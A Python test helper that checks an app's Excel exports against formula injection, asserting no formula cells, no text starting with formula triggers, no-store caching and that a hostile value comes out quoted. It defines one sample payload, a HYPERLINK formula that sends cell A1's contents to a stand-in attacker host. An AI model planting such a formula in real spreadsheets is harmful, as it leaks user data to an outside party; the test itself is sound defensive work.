"""What every Excel export must satisfy; used by the export tests of each app."""

from __future__ import annotations

import io
from typing import Any

from openpyxl import load_workbook

from core.excel import FORMULA_TRIGGERS, XLSX_CONTENT_TYPE

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def assert_safe_export(response: Any, *, expect: str | None = None) -> list[Any]:
    """No formula cell, no text that starts a formula, ``no-store``; returns every cell value.

    With ``expect`` (a hostile text written through the export), asserts it came out as text
    (quoted), so the check cannot pass on an export that simply left the value out.
    """
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"].startswith("attachment;")
    workbook = load_workbook(io.BytesIO(response.content))
    values: list[Any] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
                values.append(cell.value)
    if expect is not None:
        assert any(isinstance(v, str) and v.startswith("'" + expect) for v in values), expect
    return values
